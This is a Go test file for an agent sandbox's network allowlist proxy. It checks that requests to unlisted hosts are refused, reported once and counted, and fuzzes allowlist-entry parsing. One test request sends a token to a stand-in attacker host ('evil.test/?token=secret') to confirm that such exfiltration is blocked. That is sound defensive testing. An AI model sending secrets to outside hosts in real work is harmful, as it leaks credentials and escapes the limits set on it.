package gate

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"sync"
	"testing"

	"github.com/penstock-run/penstock/jobs"
	"github.com/penstock-run/penstock/jobs/event"
	"github.com/penstock-run/penstock/sandbox/proxy"
)

func TestNetworkTellsOnceAndCountsAll(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "hello") }))
	defer server.Close()
	var mu sync.Mutex
	var reports []event.JailViolation
	n, err := NewNetwork(NetworkConfig{
		Hosts:   []string{"*.allowed.test", "gone.test"},
		Refused: func(v event.JailViolation) { mu.Lock(); defer mu.Unlock(); reports = append(reports, v) },
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			if host == "gone.test" {
				return nil, errors.New("no such name")
			}
			return []netip.Addr{netip.MustParseAddr("203.0.113.10")}, nil
		},
		Dial: func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "tcp", server.Listener.Addr().String())
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error)
	go func() { served <- n.Serve(t.Context(), []net.Listener{l}, nil) }()
	transport := &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: l.Addr().String()})}
	get := func(method, url string) {
		req, err := http.NewRequestWithContext(t.Context(), method, url, nil)
		if err != nil {
			t.Fatal(err)
		}
		if resp, err := transport.RoundTrip(req); err == nil {
			resp.Body.Close()
		}
	}
	for range 3 {
		get("GET", "http://evil.test/?token=secret")
		get("POST", "http://evil.test/")
		get("GET", "http://gone.test/")
	}
	for i := range maxHosts + 5 {
		get("GET", fmt.Sprintf("http://h%03d.allowed.test/", i))
	}
	for i := range maxRefusals + 5 {
		get("GET", fmt.Sprintf("http://e%d.evil.test/", i))
	}
	transport.CloseIdleConnections()
	l.Close()
	if err := <-served; err != nil {
		t.Error(err)
	}
	if len(reports) != maxRefusals || reports[0] != (event.JailViolation{Kind: "network", Method: "GET", Host: "evil.test", Port: 80, Reason: "not-listed"}) {
		t.Errorf("reported %d, first %+v", len(reports), reports[0])
	}
	used := Used(nil, n)
	if used.Refused != 6+maxRefusals+5 || len(used.Hosts) != maxHosts+1 || used.Hosts[0].Host != "" || used.Hosts[0].Connections != 5 {
		t.Errorf("used %+v and %d hosts, the first %+v", used.Refused, len(used.Hosts), used.Hosts[0])
	}
	if h := used.Hosts[1]; h.Host != "h000.allowed.test" || h.Port != 80 || h.Connections != 1 || h.Sent == 0 || h.Received == 0 {
		t.Errorf("the first host: %+v", h)
	}
}

// The proxy can read everything that a job may name.
func FuzzAllowedHosts(f *testing.F) {
	for _, s := range []string{"a.example", "*.a.example:443", "A.example.:*", "10.0.0.0/8:*", "192.0.2.7:5432", "[2001:db8::1]:443", "[2001:db8::/32]:443", "::1",
		"2001:db8::/32", "a:b:c", "[a]:1", "0x7f.1", "xn--bcher-kva.example", "a_b.example", "*.10.0.0.1", "[::1", "::1]", "1.2.3.4/8:1", "fe80::1%eth0", "*.:1", "::ffff:1.2.3.4"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, entry string) {
		job := jobs.Job{Prompt: "p", Agent: jobs.Agent{Name: "claude"}, Repo: jobs.Repo{URL: "/r"},
			Sandbox: jobs.Sandbox{Network: jobs.NetworkAllowlist, AllowHosts: []string{entry}}}
		if job.WithDefaults().Validate() != nil {
			return
		}
		if _, err := proxy.ParseRules(entry); err != nil {
			t.Errorf("accepted in a job: %v", err)
		}
	})
}
